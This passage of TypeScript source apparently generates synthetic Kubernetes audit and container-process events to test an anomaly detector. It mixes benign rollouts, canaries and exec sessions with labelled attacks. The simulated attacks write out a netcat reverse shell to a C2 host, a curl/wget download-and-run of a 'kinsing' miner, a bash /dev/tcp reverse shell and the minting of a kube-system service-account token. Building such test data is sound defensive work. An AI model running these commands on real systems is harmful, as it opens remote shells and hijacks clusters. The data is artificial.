  w.c.tagged(app.steadyTag, () =>
    w.c.request({
      us: scaleUs,
      verb: "patch",
      requestURI: `/apis/apps/v1/namespaces/edge/deployments/api-gateway/scale`,
      user: controllerUser("horizontal-pod-autoscaler"),
      sourceIP: "10.0.0.10",
      userAgent: "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/3c9d4a6/system:serviceaccount:kube-system:horizontal-pod-autoscaler",
      objectRef: { resource: "deployments", namespace: "edge", name: "api-gateway", apiGroup: "apps", apiVersion: "v1", subresource: "scale" },
      code: 200,
    }),
  );
  w.incidents.push({
    id: "edge/api-gateway:scale-up",
    class: "scale-up",
    kind: "benign",
    description: `the HPA adds ${added} pod(s) after the lock`,
    cluster: w.cluster,
    namespace: app.namespace,
    workload: { kind: app.kind, name: app.name },
    pods: pods.slice(firstAdded).map((p) => p.pod.name),
    expect: [],
    allow: [],
    startUs: scaleUs,
    endUs: scaleUs + 10 * MIN,
  });
  // Attack: in a freshly replaced pod, soon after it started (the first replacement after the lock, else a scaled-up pod).
  const fresh = churn.find((ch) => ch.us > w.learnUs + MIN && ch.us < w.endUs - 10 * MIN);
  const victim = fresh ? pods[fresh.newIndex]! : pods[firstAdded]!;
  const id = "edge/api-gateway:attack-fresh-pod";
  const payload = w.rng.pick(PAYLOADS);
  attackIncident(w, id, "attack:fresh-pod", app, `${payload.name} in ${victim.pod.name} within two minutes of its start`, [{ type: "process.unexpected", minSeverity: "high" }, { type: "replica.deviation", minSeverity: "high" }]);
  const at = victim.pod.startUs + w.rng.int(30, 110) * SEC;
  w.c.tagged(id, () => payload.run(w.c, victim.pod, "gateway", victim.mains.get("gateway")!, at, 65532));
  w.parameters["churn.replicas"] = replicas;
  w.parameters["churn.replacements"] = churn.length;
  w.parameters["churn.scaleUp"] = added;
};

/** Catalog (Node.js): `kubectl rollout restart` after the lock, same image; a person's interactive session in one pod. */
const rolloutSameImage: ClassBuilder = (w) => {
  const replicas = w.rng.int(2, 5);
  const img = image(w, "registry.example.com/shop/catalog", `3.${w.rng.int(0, 40)}.${w.rng.int(0, 9)}`);
  const main: ContainerDef = {
    name: "catalog",
    image: img,
    uid: 1000,
    cwd: "/app",
    start: [
      ["/usr/local/bin/docker-entrypoint.sh", "node server.js"],
      ["/usr/local/bin/node", "server.js"],
    ],
    probe: {
      steps: [
        ["/bin/sh", '-c "wget -q -O /dev/null http://127.0.0.1:3000/healthz"'],
        ["/usr/bin/wget", "-q -O /dev/null http://127.0.0.1:3000/healthz"],
      ],
      periodUs: probePeriod(w),
      uid: 1000,
    },
    tasks: [chainTask([["/usr/local/bin/node", "/app/scripts/refresh-search-index.js"]], w.rng.int(3, 10) * MIN, 5 * SEC, "aligned", 1000, "/app")],
  };
  const app = workloadApp(
    w,
    { namespace: "shop", name: "catalog", kind: "Deployment", team: "catalog", inits: [], containers: [main] },
    { class: "steady-state", description: `${replicas} Node.js replicas refreshing the search index` },
  );
  const restartUs = afterLock(w, 3, 18);
  // Old ReplicaSet until the rollout; each new pod replaces an old one once ready.
  const oldNaming = deploymentPodNaming(w.c, app, w.c.rsHash());
  const newNaming = deploymentPodNaming(w.c, app, w.c.rsHash());
  const t0 = w.rng.int(5, 60) * SEC;
  const step = w.rng.int(15, 40) * SEC;
  const nodes = placement(w, replicas);
  const oldNames = nodes.map(() => oldNaming());
  const newNames = nodes.map(() => newNaming());
  const oldPods = nodes.map((node, i) => startPod(w.c, app, oldNames[i]!, node, t0 + i * w.rng.int(2, 10) * SEC, restartUs + (i + 1) * step + 10 * SEC, w.endUs));
  const newPods = placement(w, replicas).map((node, i) => startPod(w.c, app, newNames[i]!, node, restartUs + i * step + 3 * SEC, Infinity, w.endUs));
  const rsController = { user: controllerUser("replicaset-controller"), userAgent: "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/3c9d4a6/system:serviceaccount:kube-system:replicaset-controller", sourceIP: "10.0.0.10" };
  w.c.tagged(app.steadyTag, () => {
    ciPatch(w, app, restartUs - 5 * SEC, { metadata: { annotations: { "kubectl.kubernetes.io/restartedAt": new Date(w.c.startMs + restartUs / 1000).toISOString().slice(0, 19) + "Z" } } });
    oldPods.forEach((p) => podDeleted(w.c, p.pod, p.pod.endUs, rsController));
  });
  w.incidents.push({
    id: "shop/catalog:rollout-same-image",
    class: "rollout-same-image",
    kind: "benign",
    description: `kubectl rollout restart: ${replicas} new pods on the same image digest`,
    cluster: w.cluster,
    namespace: app.namespace,
    workload: { kind: app.kind, name: app.name },
    pods: newPods.map((p) => p.pod.name),
    expect: [],
    allow: [],
    startUs: restartUs,
    endUs: restartUs + replicas * step + 10 * MIN,
  });
  // A person's interactive session (benign), after the rollout, in one of the new pods; another during learning in an old pod.
  const alice = personUser("alice@example.com", ["developers"]);
  const sessions = [
    { pod: w.rng.pick(newPods).pod, us: Math.min(restartUs + replicas * step + w.rng.int(2, 5) * MIN, w.endUs - 8 * MIN) },
    ...(w.rng.chance(0.6) ? [{ pod: w.rng.pick(oldPods).pod, us: w.rng.int(3, Math.max(4, w.learnUs / MIN - 6)) * MIN }] : []),
  ];
  sessions.forEach((s, k) => {
    const id = `shop/catalog:exec-session-interactive-${k}`;
    sessionIncident(w, id, "exec-session-interactive", app, s.pod, "catalog", alice.username, `alice opens sh in ${s.pod.name} and looks around (${s.us < w.learnUs ? "learning" : "after the lock"})`);
    const typed = browsing(w, w.rng.int(3, 7));
    w.c.tagged(id, () => execSession(w, { pod: s.pod, container: "catalog", user: alice, us: s.us, command: ["sh"], binary: "/bin/sh", tty: true, typed, durationUs: typed.reduce((a, t) => a + t.gapUs, 0) + w.rng.int(10, 120) * SEC, uid: 1000 }));
  });
  w.parameters["rollout.replicas"] = replicas;
};

function ciPatch(w: World, app: AppDef, us: number, template: unknown): void {
  w.c.request({
    us,
    verb: "patch",
    requestURI: `/apis/apps/v1/namespaces/${app.namespace}/deployments/${app.name}?fieldManager=kubectl-rollout`,
    user: personUser("ci-bot@example.com", ["deployers"]),
    sourceIP: "10.0.8.14",
    userAgent: KUBECTL_UA,
    objectRef: { resource: "deployments", namespace: app.namespace, name: app.name, apiGroup: "apps", apiVersion: "v1" },
    code: 200,
    reason: `RBAC: allowed by RoleBinding "deployers/${app.namespace}" of ClusterRole "edit" to Group "deployers"`,
    level: "Request",
    requestObject: { spec: { template } },
  });
}

/** Frontend (nginx): rollout to a new image whose entrypoint adds a binary on every replica. */
const rolloutNewImage: ClassBuilder = (w) => {
  const replicas = w.rng.int(2, 5);
  const v = w.rng.int(1, 9);
  const oldImg = image(w, "registry.example.com/web/frontend", `5.${v}.0`);
  const newImg = image(w, "registry.example.com/web/frontend", `5.${v + 1}.0`);
  const extra = w.rng.chance(0.5);
  const def = (img: Image, added: boolean): ContainerDef => ({
    name: "frontend",
    image: img,
    uid: 0,
    cwd: "/",
    start: [
      ["/docker-entrypoint.sh", 'nginx -g "daemon off;"'],
      ["/usr/bin/envsubst", "/etc/nginx/templates/default.conf.template"],
      ...(added ? ([["/usr/local/bin/precompress-assets", "--brotli --gzip /usr/share/nginx/html"]] as Step[]) : []),
      ["/usr/sbin/nginx", '-g "daemon off;"'],
    ],
    tasks: [
      chainTask([["/usr/local/bin/render-sitemap", "--out /usr/share/nginx/html/sitemap.xml"]], 5 * MIN, 8 * SEC, "aligned", 101),
      ...(added && extra ? [chainTask([["/usr/local/bin/purge-cdn-cache", "--paths /index.html,/sitemap.xml"]], 5 * MIN, 8 * SEC, "aligned", 101)] : []),
    ],
  });
  const app = workloadApp(
    w,
    { namespace: "web", name: "frontend", kind: "Deployment", team: "web", inits: [], containers: [def(oldImg, false)] },
    { class: "steady-state", description: `${replicas} nginx replicas (HTTP probes), sitemap every 5 min` },
  );
  const newApp: AppDef = { ...app, containers: [def(newImg, true)] };
  const rolloutUs = afterLock(w, 3, 18);
  const step = w.rng.int(10, 30) * SEC;
  const oldNaming = deploymentPodNaming(w.c, app, w.c.rsHash());
  const newNaming = deploymentPodNaming(w.c, app, w.c.rsHash());
  const t0 = w.rng.int(5, 60) * SEC;
  const oldPods = placement(w, replicas).map((node, i) => startPod(w.c, app, oldNaming(), node, t0 + i * w.rng.int(2, 10) * SEC, rolloutUs + (i + 1) * step + 8 * SEC, w.endUs));
  const newPods = placement(w, replicas).map((node, i) => startPod(w.c, newApp, newNaming(), node, rolloutUs + i * step + 3 * SEC, Infinity, w.endUs));
  const rsController = { user: controllerUser("replicaset-controller"), userAgent: "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/3c9d4a6/system:serviceaccount:kube-system:replicaset-controller", sourceIP: "10.0.0.10" };
  w.c.tagged(app.steadyTag, () => {
    ciPatch(w, app, rolloutUs - 5 * SEC, { spec: { containers: [{ name: "frontend", image: `${newImg.repository}:${newImg.tag}` }] } });
    oldPods.forEach((p) => podDeleted(w.c, p.pod, p.pod.endUs, rsController));
  });
  const newBinaries = extra ? 2 : 1;
  w.incidents.push({
    id: "web/frontend:rollout-new-image",
    class: "rollout-new-image",
    kind: "benign",
    description: `rollout to ${newImg.tag} (new digest); its entrypoint adds precompress-assets${extra ? ", a task adds purge-cdn-cache" : ""} on every replica`,
    cluster: w.cluster,
    namespace: app.namespace,
    workload: { kind: app.kind, name: app.name },
    pods: newPods.map((p) => p.pod.name),
    expect: [],
    allow: [{ type: "baseline.drift", maxSeverity: "low", max: newBinaries }],
    // To the end: the new image's binaries keep running, and a finding about them is the rollout's.
    startUs: rolloutUs,
    endUs: w.endUs,
  });
  w.parameters["newImage.replicas"] = replicas;
};

/** Checkout (Go): a canary ReplicaSet on a new digest next to the old-image replicas; one old replica later runs an unknown binary (attack after learning). */
const canary: ClassBuilder = (w) => {
  const replicas = w.rng.int(3, 5);
  const v = w.rng.int(10, 60);
  const oldImg = image(w, "registry.example.com/shop/checkout", `1.${v}.0`);
  const newImg = image(w, "registry.example.com/shop/checkout", `1.${v + 1}.0`);
  const def = (img: Image, added: boolean): ContainerDef => ({
    name: "checkout",
    image: img,
    uid: 10001,
    cwd: "/app",
    start: [["/app/checkout", "serve --port 8080"]],
    probe: { steps: [["/bin/grpc_health_probe", "-addr=:8080 -connect-timeout 2s"]], periodUs: probePeriod(w), uid: 10001 },
    tasks: [
      chainTask(
        [
          ["/bin/sh", "/app/scripts/sync-prices.sh"],
          ["/usr/bin/curl", "-sf -o /tmp/prices.json http://pricing.shop.svc:8080/v1/prices"],
          ...(added ? ([["/app/bin/price-diff", "--old /tmp/prices.prev.json --new /tmp/prices.json"]] as Step[]) : []),
        ],
        2 * MIN,
        3 * SEC,
        "aligned",
        10001,
        "/app",
      ),
    ],
  });
  const app = workloadApp(
    w,
    { namespace: "shop", name: "checkout", kind: "Deployment", team: "payments", inits: [], containers: [def(oldImg, false)] },
    { class: "steady-state", description: `${replicas} checkout replicas syncing prices every 2 min` },
  );
  const pods = startDeployment(w, app, replicas);
  const canaryUs = afterLock(w, 2, 15);
  const canaryApp: AppDef = { ...app, containers: [def(newImg, true)] };
  const canaryPod = startPod(w.c, canaryApp, deploymentPodNaming(w.c, app, w.c.rsHash())(), w.rng.pick(w.nodes), canaryUs, Infinity, w.endUs);
  w.incidents.push({
    id: "shop/checkout:canary",
    class: "canary",
    kind: "benign",
    description: `canary ReplicaSet on ${newImg.tag} (new digest, adds /app/bin/price-diff) next to ${replicas} replicas of ${oldImg.tag}`,
    cluster: w.cluster,
    namespace: app.namespace,
    workload: { kind: app.kind, name: app.name },
    pods: [canaryPod.pod.name],
    expect: [],
    allow: [{ type: "baseline.drift", maxSeverity: "low", max: 1 }],
    startUs: canaryUs,
    endUs: w.endUs,
  });
  // Attack after learning: a one-off on one old-image replica.
  const victim = w.rng.pick(pods);
  const payload = w.rng.pick(PAYLOADS);
  const id = "shop/checkout:attack-after-learning";
  attackIncident(w, id, "attack:oneoff-after-learning", app, `${payload.name} spawned by the application on ${victim.pod.name}, after the lock`, [
    { type: "process.unexpected", minSeverity: "high" },
    { type: "replica.deviation", minSeverity: "high" },
  ]);
  w.c.tagged(id, () => payload.run(w.c, victim.pod, "checkout", victim.mains.get("checkout")!, afterLock(w, 2, 10), 10001));
  w.parameters["canary.replicas"] = replicas;
};

/** Ledger API: an init container (migrations) and a log-shipping sidecar; one pod is replaced after the lock; the sidecar of one pod is attacked. */
const sidecarInit: ClassBuilder = (w) => {
  const replicas = w.rng.int(2, 4);
  const init: ContainerDef = {
    name: "migrate",
    image: image(w, "registry.example.com/bank/ledger-migrations", `0.${w.rng.int(10, 90)}.0`),
    uid: 1000,
    cwd: "/migrations",
    start: [
      ["/bin/sh", "-c /migrations/run.sh"],
      ["/usr/local/bin/migrate", "-path /migrations -database postgres://ledger-db:5432/ledger up"],
    ],
    tasks: [],
  };
  const main: ContainerDef = {
    name: "ledger-api",
    image: image(w, "registry.example.com/bank/ledger-api", `2.${w.rng.int(0, 9)}.${w.rng.int(0, 9)}`),
    uid: 10001,
    cwd: "/",
    start: [["/app/ledger-api", "--listen :8443"]],
    probe: { steps: [["/app/ledger-api", "probe --ready"]], periodUs: probePeriod(w), uid: 10001 },
    tasks: [],
  };
  const sidecar: ContainerDef = {
    name: "log-shipper",
    image: image(w, "cr.fluentbit.io/fluent/fluent-bit", "3.1.9"),
    uid: 0,
    cwd: "/",
    start: [["/fluent-bit/bin/fluent-bit", "-c /fluent-bit/etc/fluent-bit.conf"]],
    tasks: [chainTask([["/bin/sh", '-c "logrotate /etc/logrotate.d/ledger"'], ["/usr/sbin/logrotate", "/etc/logrotate.d/ledger"]], w.rng.int(5, 10) * MIN, 20 * SEC, "aligned", 0)],
  };
  const app = workloadApp(
    w,
    { namespace: "bank", name: "ledger-api", kind: "Deployment", team: "core-banking", inits: [init], containers: [main, sidecar] },
    { class: "sidecar-init", description: `${replicas} pods with an init container (migrations) and a log-shipper sidecar; one pod replaced after the lock` },
  );
  const hash = w.c.rsHash();
  const naming = deploymentPodNaming(w.c, app, hash);
  const t0 = w.rng.int(5, 60) * SEC;
  const replaceUs = afterLock(w, 2, 15);
  const nodes = placement(w, replicas);
  const replaced = w.rng.int(0, replicas - 1);
  const pods = nodes.map((node, i) => startPod(w.c, app, naming(), node, t0 + i * w.rng.int(2, 10) * SEC, i === replaced ? replaceUs : Infinity, w.endUs));
  const replacement = startPod(w.c, app, naming(), w.rng.pick(w.nodes), replaceUs + w.rng.int(2, 5) * SEC, Infinity, w.endUs);
  w.c.tagged(app.steadyTag, () =>
    podDeleted(w.c, pods[replaced]!.pod, replaceUs, { user: controllerUser("node-controller"), userAgent: "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/3c9d4a6/system:serviceaccount:kube-system:node-controller", sourceIP: "10.0.0.10" }),
  );
  // Attack: the sidecar of one pod spawns a shell and netcat.
  const live = [...pods.filter((_, i) => i !== replaced), replacement];
  const victim = w.rng.pick(live);
  const id = "bank/ledger-api:attack-sidecar";
  attackIncident(w, id, "attack:sidecar", app, `the log-shipper sidecar of ${victim.pod.name} spawns sh and nc (a reverse shell)`, [
    { type: "process.unexpected", minSeverity: "high" },
    { type: "replica.deviation", minSeverity: "high" },
  ]);
  const at = Math.max(afterLock(w, 2, 10), victim.pod.startUs + 2 * MIN);
  w.c.tagged(id, () => {
    const host = w.rng.pick(C2);
    const sh = w.c.exec(victim.pod, "log-shipper", at, "/bin/sh", `-c "nc ${host} 4444 -e /bin/sh"`, { parent: victim.mains.get("log-shipper")!, uid: 0 });
    const nc = w.c.exec(victim.pod, "log-shipper", at + 20_000, "/usr/bin/nc", `${host} 4444 -e /bin/sh`, { parent: sh, uid: 0 });
    falco(
      w.c,
      nc,
      at + 21_000,
      "Netcat Remote Code Execution in Container",
      "Warning",
      ["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"],
      `Netcat runs inside container that allows remote code execution (evt_type=execve user=root user_uid=0 user_loginuid=-1 process=nc proc_exepath=/usr/bin/nc parent=sh command=nc ${host} 4444 -e /bin/sh terminal=0)`,
      "execve",
    );
  });
  w.parameters["sidecar.replicas"] = replicas;
};

/** Payments API (Node.js, ≥ 3 replicas): a one-off on one replica while the baseline is still learning. */
const attackDuringLearning: ClassBuilder = (w) => {
  const replicas = w.rng.int(3, 6);
  const main: ContainerDef = {
    name: "payments-api",
    image: image(w, "registry.example.com/payments/payments-api", `7.${w.rng.int(0, 20)}.${w.rng.int(0, 9)}`),
    uid: 1000,
    cwd: "/usr/src/app",
    start: [
      ["/usr/local/bin/docker-entrypoint.sh", "node dist/main.js"],
      ["/usr/local/bin/node", "dist/main.js"],
    ],
    probe: { steps: [["/usr/local/bin/node", "dist/healthcheck.js"]], periodUs: probePeriod(w), uid: 1000 },
    tasks: [chainTask([["/usr/local/bin/node", "dist/jobs/settle-batch.js"]], w.rng.int(2, 6) * MIN, 5 * SEC, "aligned", 1000, "/usr/src/app")],
  };
  const app = workloadApp(
    w,
    { namespace: "payments", name: "payments-api", kind: "Deployment", team: "payments", inits: [], containers: [main] },
    { class: "steady-state", description: `${replicas} Node.js replicas settling batches` },
  );
  const pods = startDeployment(w, app, replicas);
  const victim = w.rng.pick(pods);
  const payload = w.rng.pick(PAYLOADS.filter((p) => p.name !== "shell-recon"));
  const id = "payments/payments-api:attack-during-learning";
  attackIncident(w, id, "attack:oneoff-during-learning", app, `${payload.name} spawned by the application on ${victim.pod.name} of ${replicas}, while the baseline learns`, [
    { type: "replica.deviation", minSeverity: "high" },
    { type: "process.unexpected", minSeverity: "high" },
  ]);
  const lo = Math.max(4 * MIN, Math.floor(w.learnUs * 0.3));
  const hi = Math.floor(w.learnUs * 0.8);
  w.c.tagged(id, () => payload.run(w.c, victim.pod, "payments-api", victim.mains.get("payments-api")!, w.rng.int(lo / SEC, hi / SEC) * SEC, 1000));
  w.parameters["duringLearning.replicas"] = replicas;
};

/** Storefront (Java): the same unknown binary on every replica at once, after the lock (an exploited dependency). */
const attackAllReplicas: ClassBuilder = (w) => {
  const replicas = w.rng.int(2, 6);
  const main: ContainerDef = {
    name: "storefront",
    image: image(w, "registry.example.com/web/storefront", `11.${w.rng.int(0, 9)}.${w.rng.int(0, 9)}`),
    uid: 185,
    cwd: "/deployments",
    start: [
      ["/opt/jboss/container/java/run/run-java.sh", ""],
      ["/usr/lib/jvm/java-21/bin/java", "-XX:MaxRAMPercentage=80 -jar /deployments/quarkus-run.jar"],
    ],
    probe: { steps: [["/bin/sh", '-c "test -f /tmp/ready"'], ["/usr/bin/test", "-f /tmp/ready"]], periodUs: probePeriod(w), uid: 185 },
    tasks: [],
  };
  const app = workloadApp(
    w,
    { namespace: "web", name: "storefront", kind: "Deployment", team: "web", inits: [], containers: [main] },
    { class: "steady-state", description: `${replicas} Java replicas that exec nothing but their probe` },
  );
  const pods = startDeployment(w, app, replicas);
  const id = "web/storefront:attack-all-replicas";
  attackIncident(w, id, "attack:all-replicas", app, `every replica (${replicas}) downloads and runs /var/tmp/kinsing within seconds, after the lock`, [{ type: "process.unexpected", minSeverity: "high" }]);
  const at = afterLock(w, 2, 10);
  const host = w.rng.pick(C2);
  w.c.tagged(id, () =>
    pods.forEach((r, i) => {
      const us = at + i * w.rng.int(200_000, 4_000_000);
      const parent = r.mains.get("storefront")!;
      const sh = w.c.exec(r.pod, "storefront", us, "/bin/sh", `-c "(curl -s http://${host}/kinsing || wget -q -O- http://${host}/kinsing) > /var/tmp/kinsing; chmod +x /var/tmp/kinsing; /var/tmp/kinsing"`, { parent, uid: 185 });
      w.c.exec(r.pod, "storefront", us + 20_000, "/usr/bin/curl", `-s http://${host}/kinsing`, { parent: sh, uid: 185 });
      w.c.exec(r.pod, "storefront", us + 900_000, "/bin/chmod", "+x /var/tmp/kinsing", { parent: sh, uid: 185 });
      const k = w.c.exec(r.pod, "storefront", us + 950_000, "/var/tmp/kinsing", "", { parent: sh, uid: 185 });
      dropAndExec(w.c, k, us + 950_000);
      falco(
        w.c,
        k,
        us + 3_200_000,
        "Detect outbound connections to common miner pool ports",
        "Critical",
        ["maturity_sandbox", "host", "container", "network", "mitre_impact", "T1496"],
        `Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip=${host} port=3333 connection=10.0.4.9:40022->${host}:3333 lport=40022 rport=3333 fd_type=ipv4 fd_proto=tcp evt_type=connect user=<NA> user_uid=185 process=kinsing command=kinsing terminal=0)`,
        "connect",
        `10.0.4.9:40022->${host}:3333`,
      );
    }),
  );
  w.parameters["allReplicas.replicas"] = replicas;
};

/** Inventory (Python): a person's interactive session is open while the application spawns a reverse shell in the same pod. */
const reverseShellDuringSession: ClassBuilder = (w) => {
  const replicas = w.rng.int(2, 5);
  const main: ContainerDef = {
    name: "inventory",
    image: image(w, "registry.example.com/shop/inventory", `0.${w.rng.int(30, 99)}.${w.rng.int(0, 9)}`),
    uid: 1001,
    cwd: "/srv",
    start: [
      ["/usr/local/bin/gunicorn", "inventory.wsgi:application --bind 0.0.0.0:8000 --workers 3"],
    ],
    probe: { steps: [["/usr/local/bin/python", "/srv/manage.py check --deploy --fail-level ERROR"]], periodUs: probePeriod(w), uid: 1001 },
    tasks: [chainTask([["/usr/local/bin/python", "/srv/manage.py clearsessions"]], w.rng.int(5, 15) * MIN, 30 * SEC, "aligned", 1001, "/srv")],
  };
  const app = workloadApp(
    w,
    { namespace: "shop", name: "inventory", kind: "Deployment", team: "inventory", inits: [], containers: [main] },
    { class: "steady-state", description: `${replicas} Django replicas clearing sessions periodically` },
  );
  const pods = startDeployment(w, app, replicas);
  const victim = w.rng.pick(pods);
  const carol = personUser("carol@example.com", ["developers"]);
  const sessionUs = afterLock(w, 2, 14);
  const typed = browsing(w, w.rng.int(4, 7));
  const durationUs = typed.reduce((a, t) => a + t.gapUs, 0) + w.rng.int(60, 240) * SEC;
  const sid = "shop/inventory:exec-session-interactive";
  sessionIncident(w, sid, "exec-session-interactive", app, victim.pod, "inventory", carol.username, `carol opens sh in ${victim.pod.name} while the application is exploited`);
  w.c.tagged(sid, () => execSession(w, { pod: victim.pod, container: "inventory", user: carol, us: sessionUs, command: ["sh"], binary: "/bin/sh", tty: true, typed, durationUs, uid: 1001 }));
  const id = "shop/inventory:attack-reverse-shell-during-session";
  attackIncident(w, id, "attack:reverse-shell-during-session", app, `gunicorn on ${victim.pod.name} spawns bash -i >& /dev/tcp/… while carol's exec session is open in the pod`, [
    { type: "process.unexpected", minSeverity: "high" },
    { type: "replica.deviation", minSeverity: "high" },
  ]);
  w.c.tagged(id, () => reverseShell(w.c, victim.pod, "inventory", victim.mains.get("inventory")!, sessionUs + w.rng.int(20, Math.max(21, Math.floor(durationUs / SEC) - 20)) * SEC, 1001));
};

/** Reports (one replica): an attack after the lock in a workload with no peers. */
const singleReplica: ClassBuilder = (w) => {
  const kind = w.rng.chance(0.5) ? "Deployment" : "StatefulSet";
  const main: ContainerDef = {
    name: "reports",
    image: image(w, "registry.example.com/bank/reports", `4.${w.rng.int(0, 9)}.0`),
    uid: 1000,
    cwd: "/app",
    start: [["/usr/local/bin/python3", "-m reports.server"]],
    probe: w.rng.chance(0.5) ? { steps: [["/usr/local/bin/python3", "-m reports.health"]], periodUs: probePeriod(w), uid: 1000 } : undefined,
    tasks: [chainTask([["/usr/local/bin/python3", "-m reports.jobs.hourly"], ["/usr/bin/pg_dump", "--table=transactions --format=csv ledger"]], w.rng.int(5, 12) * MIN, 20 * SEC, "aligned", 1000, "/app")],
  };
  const app = workloadApp(
    w,
    { namespace: "bank", name: "reports", kind, team: "core-banking", inits: [], containers: [main] },
    { class: "steady-state", description: `a single-replica ${kind} exporting reports` },
  );
  const pod = kind === "Deployment" ? startDeployment(w, app, 1)[0]! : startPod(w.c, app, statefulSetPodNaming(app, w.c.rsHash())(0), w.rng.pick(w.nodes), w.rng.int(5, 60) * SEC, Infinity, w.endUs);
  const payload = w.rng.pick(PAYLOADS);
  const id = "bank/reports:attack-single-replica";
  attackIncident(w, id, "attack:single-replica", app, `${payload.name} in the only replica ${pod.pod.name}, after the lock`, [{ type: "process.unexpected", minSeverity: "high" }]);
  w.c.tagged(id, () => payload.run(w.c, pod.pod, "reports", pod.mains.get("reports")!, afterLock(w, 2, 10), 1000));
};

/** Controllers and operators read secrets all along; an SRE reads one during learning and again later. */
const controllerSecrets: ClassBuilder = (w) => {
  const readers = [
    { user: serviceAccountUser("cert-manager", "cert-manager", w.rng.uuid()), ua: "cert-manager-controller/v1.15.3 (linux/amd64) cert-manager/6e7e0e9b", secrets: [["web", "frontend-tls"], ["edge", "api-gateway-tls"], ["shop", "checkout-tls"]] },
    { user: serviceAccountUser("external-secrets", "external-secrets", w.rng.uuid()), ua: "external-secrets/v0.10.4", secrets: [["payments", "payments-db"], ["bank", "ledger-db"], ["shop", "orders-db-credentials"]] },
    { user: { username: "system:kube-controller-manager", groups: ["system:authenticated"] }, ua: "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/3c9d4a6/tokens-controller", secrets: [["kube-system", "bootstrap-token-abcdef"]] },
  ];
  for (const r of readers) {
    const period = w.rng.int(1, 6) * MIN;
    for (const [ns, name] of r.secrets as [string, string][]) {
      const id = `${ns}:controller-secrets:${r.user.username}`;
      w.incidents.push({ id, class: "controller-secrets", kind: "benign", description: `${r.user.username} reads secret ${ns}/${name} every ${period / MIN} min`, cluster: w.cluster, namespace: ns, users: [r.user.username], expect: [], allow: [], startUs: 0, endUs: w.endUs });
      w.c.tagged(id, () => {
        for (let us = w.rng.int(0, period / SEC) * SEC; us < w.endUs; us += period + w.rng.int(-10, 10) * SEC) {
          const verb = w.rng.chance(0.8) ? "get" : "update";
          w.c.request({
            us,
            verb,
            requestURI: `/api/v1/namespaces/${ns}/secrets/${name}`,
            user: r.user,
            sourceIP: "10.0.2.40",
            userAgent: r.ua,
            objectRef: { resource: "secrets", namespace: ns, name, apiVersion: "v1" },
            code: 200,
          });
        }
      });
    }
  }
  // Vault's Kubernetes secrets engine mints short-lived service-account tokens for its clients: a controller, not a person.
  const vault = serviceAccountUser("vault", "vault", w.rng.uuid());
  const vaultId = "payments:controller-secrets:vault";
  const vaultPeriod = w.rng.int(10, 30) * MIN;
  w.incidents.push({ id: vaultId, class: "controller-secrets", kind: "benign", description: `vault mints a token for payments/payments-api every ${vaultPeriod / MIN} min`, cluster: w.cluster, namespace: "payments", users: [vault.username], expect: [], allow: [] });
  w.c.tagged(vaultId, () => {
    for (let us = w.rng.int(1, 10) * MIN; us < w.endUs; us += vaultPeriod + w.rng.int(-30, 30) * SEC) {
      w.c.request({
        us,
        verb: "create",
        requestURI: "/api/v1/namespaces/payments/serviceaccounts/payments-api/token",
        user: vault,
        sourceIP: "10.0.5.21",
        userAgent: "vault/v1.17.6 (+https://www.vaultproject.io/; go1.22.7)",
        objectRef: { resource: "serviceaccounts", namespace: "payments", name: "payments-api", apiVersion: "v1", subresource: "token" },
        code: 201,
        level: "Request",
        requestObject: {
          kind: "TokenRequest",
          apiVersion: "authentication.k8s.io/v1",
          metadata: { name: "payments-api", namespace: "payments", creationTimestamp: null },
          spec: { audiences: null, expirationSeconds: 3600, boundObjectRef: null },
          status: { token: "", expirationTimestamp: null },
        },
      });
    }
  });
  // A person, during learning and again after the lock, in the same namespace.
  const erin = personUser("erin@example.com", ["sre"]);
  const id = "payments:controller-secrets:erin";
  w.incidents.push({ id, class: "controller-secrets", kind: "benign", description: "erin (SRE) reads payments secrets during learning and again after the lock", cluster: w.cluster, namespace: "payments", users: [erin.username], expect: [], allow: [] });
  w.c.tagged(id, () => {
    for (const us of [w.rng.int(3, Math.max(4, w.learnUs / MIN - 3)) * MIN, afterLock(w, 3, 5)]) {
      w.c.request({ us, verb: "list", requestURI: "/api/v1/namespaces/payments/secrets?limit=500", user: erin, sourceIP: "198.51.100.31", userAgent: KUBECTL_UA, objectRef: { resource: "secrets", namespace: "payments", apiVersion: "v1" }, code: 200 });
      w.c.request({ us: us + 4 * SEC, verb: "get", requestURI: "/api/v1/namespaces/payments/secrets/payments-db", user: erin, sourceIP: "198.51.100.31", userAgent: KUBECTL_UA, objectRef: { resource: "secrets", namespace: "payments", name: "payments-db", apiVersion: "v1" }, code: 200 });
    }
  });
};

/** A person mints a long-lived token for a kube-system service account. */
const tokenMint: ClassBuilder = (w) => {
  const dave = personUser("dave@example.com", ["developers"]);
  const sa = w.rng.pick(["clusterrole-aggregation-controller", "generic-garbage-collector", "default"]);
  const expirationSeconds = w.rng.pick([604_800, 2_592_000, 31_536_000]);
  const id = "kube-system:attack-token-mint";
  w.incidents.push({
    id,
    class: "attack:token-mint",
    kind: "attack",
    description: `dave lists kube-system's service accounts and secrets, then creates a token for kube-system/${sa} (expirationSeconds ${expirationSeconds})`,
    cluster: w.cluster,
    namespace: "kube-system",
    users: [dave.username],
    expect: [{ type: "audit.*token*" }],
    allow: [{ type: "audit.*" }],
  });
  const us = afterLock(w, 2, 8);
  w.c.tagged(id, () => {
    w.c.request({ us, verb: "list", requestURI: "/api/v1/namespaces/kube-system/serviceaccounts?limit=500", user: dave, sourceIP: "198.51.100.23", userAgent: KUBECTL_UA, objectRef: { resource: "serviceaccounts", namespace: "kube-system", apiVersion: "v1" }, code: 200 });
    // Reconnaissance: which secrets kube-system holds (a first-seen secret reader once the learning is over).
    w.c.request({ us: us + 5 * SEC, verb: "list", requestURI: "/api/v1/namespaces/kube-system/secrets?limit=500", user: dave, sourceIP: "198.51.100.23", userAgent: KUBECTL_UA, objectRef: { resource: "secrets", namespace: "kube-system", apiVersion: "v1" }, code: 200 });
    w.c.request({
      us: us + w.rng.int(10, 60) * SEC,
      verb: "create",
      requestURI: `/api/v1/namespaces/kube-system/serviceaccounts/${sa}/token`,
      user: dave,
      sourceIP: "198.51.100.23",
      userAgent: KUBECTL_UA,
      objectRef: { resource: "serviceaccounts", namespace: "kube-system", name: sa, apiVersion: "v1", subresource: "token" },
      code: 201,
